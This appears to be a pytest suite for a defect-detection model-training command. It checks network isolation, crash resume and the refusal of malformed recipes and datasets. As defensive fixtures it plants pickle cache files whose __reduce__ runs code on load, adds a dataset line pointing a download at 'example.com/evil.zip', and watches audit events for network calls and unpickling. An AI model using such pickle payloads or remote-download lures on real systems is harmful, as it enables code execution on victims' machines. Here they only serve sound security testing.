"""Promises of ``python -m apps.defect_detection.training`` as a whole, hostile data among them."""

import json
import pickle
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import torch

from apps.defect_detection.training.config import TrainingConfig, recipe_for
from apps.defect_detection.training.pictures import load
from apps.defect_detection.training.training import train
from loupe.contract.runtime import devices
from loupe.contract.runtime.errors import InputRefused
from loupe.contract.runtime.training import (
    PREDICTIONS,
    REFUSED,
    UNAVAILABLE,
    history,
    read_panel,
    train_main,
)
from tests.apps.defect_detection.training.made import labelled, yolo_set

MODULE = "apps.defect_detection.training"
TINY = {"epochs": 2, "image_size": 64, "batch": 4, "device": "cpu"}
# Ends the process at once when it connects to anything, loads a pickle or starts a program.
WATCHED = """
import os, runpy, sys
def watch(event, given):
    if event in ("socket.connect", "socket.getaddrinfo", "pickle.find_class", "urllib.Request"):
        os.write(2, f"FORBIDDEN {event} {given}".encode())
        os._exit(97)
sys.addaudithook(watch)
sys.argv = sys.argv[1:]
runpy.run_module(sys.argv[0], run_name="__main__", alter_sys=True)
"""


def arguments(tmp_path: Path, data: Path, **config: Any) -> list[str]:
    recipe = tmp_path / "recipe.json"
    recipe.write_text(json.dumps({**TINY, **config}))
    return ["--data", str(data), "--out", str(tmp_path / "out"), "--config", str(recipe)]


class Payload:
    """Unpickling it would run code."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return Path.touch, (self.marker,)  # type: ignore[return-value]


@pytest.mark.slow
def test_nothing_connects_out_and_no_file_of_the_data_reaches_ultralytics(tmp_path: Path) -> None:
    data, marker = yolo_set(tmp_path / "data"), tmp_path / "marker"
    with (data / "data.yaml").open("a") as description:
        description.write("download: https://example.com/evil.zip\nnc: 2\n")
    for place in (data, data / "labels", data / "labels" / "train", data / "images"):
        (place / "labels.cache").write_bytes(pickle.dumps(Payload(marker)))
        (place / "train.cache").write_bytes(pickle.dumps(Payload(marker)))
    before = sorted(str(path) for path in data.rglob("*"))
    done = subprocess.run(
        [sys.executable, "-c", WATCHED, MODULE, *arguments(tmp_path, data, epochs=1)],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    assert not marker.exists()
    assert sorted(str(path) for path in data.rglob("*")) == before
    panel = read_panel(tmp_path / "out")
    assert panel.figure("map50") is not None
    assert (tmp_path / "out" / PREDICTIONS).read_text().count("\n") == 4
    manifest = json.loads((tmp_path / "out" / "artefact" / "manifest.json").read_text())
    assert manifest["classes"] == ["hole", "bar"]
    assert set(manifest["files"]) == {
        "README.md", "model.int8.onnx", "model.onnx", "model.safetensors",
    }  # fmt: skip


@pytest.mark.slow
def test_a_training_killed_between_epochs_goes_on_by_resume(tmp_path: Path) -> None:
    data = yolo_set(tmp_path / "data", train=4, val=2)
    given = arguments(tmp_path, data, epochs=4)
    child = subprocess.Popen([sys.executable, "-m", MODULE, *given], stderr=subprocess.DEVNULL)
    out = tmp_path / "out"
    while child.poll() is None and len(history(out)) < 2:
        time.sleep(0.02)
    child.send_signal(signal.SIGKILL)
    child.wait()
    told = history(out)
    assert 2 <= len(told) < 4
    assert train_main([*given, "--resume"], train, TrainingConfig) == 0
    after = history(out)
    assert [line["step"] for line in after] == [1, 2, 3, 4]
    same = ("box_loss", "cls_loss", "dfl_loss")
    # Another process adds up in another order.
    expected = pytest.approx([told[1][key] for key in same], rel=1e-3)
    assert [after[1][key] for key in same] == expected


def test_a_second_training_on_the_device_is_told_to_wait(tmp_path: Path) -> None:
    with devices.claimed("cpu"):
        assert train_main(arguments(tmp_path, tmp_path), train, TrainingConfig) == UNAVAILABLE


@pytest.mark.parametrize(
    ("config", "word"),
    [
        ({"architecture": "yolov8n"}, "architecture"),
        ({"image_size": 100}, "multiple of 32"),
        ({"epochs": -1}, "epochs"),
        ({"device": "tpu"}, "device"),
        ({"colour": "red"}, "colour"),
    ],
)
def test_a_recipe_that_cannot_be_is_refused_by_name(
    tmp_path: Path, config: dict[str, Any], word: str, capsys: pytest.CaptureFixture[str]
) -> None:
    given = arguments(tmp_path, yolo_set(tmp_path / "data"), **config)
    assert train_main(given, train, TrainingConfig) == REFUSED
    assert word in capsys.readouterr().err


def test_a_folder_that_is_no_dataset_and_a_picture_that_is_none_are_refused_by_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "empty").mkdir()
    assert train_main(arguments(tmp_path, tmp_path / "empty"), train, TrainingConfig) == REFUSED
    assert "unknown_layout" in capsys.readouterr().err
    items = labelled(tmp_path / "pictures", 2)
    whole = items[1].path.read_bytes()
    items[1].path.write_bytes(whole[: len(whole) // 2])
    with pytest.raises(InputRefused, match=r"001\.png.*Remove it"):
        load(items, 64, torch.device("cpu"), 1)


def test_the_recipe_suits_the_set_and_the_device() -> None:
    config = TrainingConfig()
    small, large = recipe_for(config, 100, True), recipe_for(config, 5000, True)
    assert small.epochs > large.epochs
    assert small.batch <= 25
    assert large.seconds == 0
    on_cpu = recipe_for(config, 100, False)
    assert on_cpu.seconds == 1800
    assert on_cpu.batch <= 16
    asked = recipe_for(TrainingConfig(epochs=7, batch=3, minutes=2), 100, False)
    assert (asked.epochs, asked.batch, asked.seconds) == (7, 3, 120)
    assert asked.deterministic
    assert recipe_for(TrainingConfig(architecture="yolo26s", nms_free=True), 9, True).end2end
    assert not recipe_for(TrainingConfig(nms_free=True), 9, True).end2end
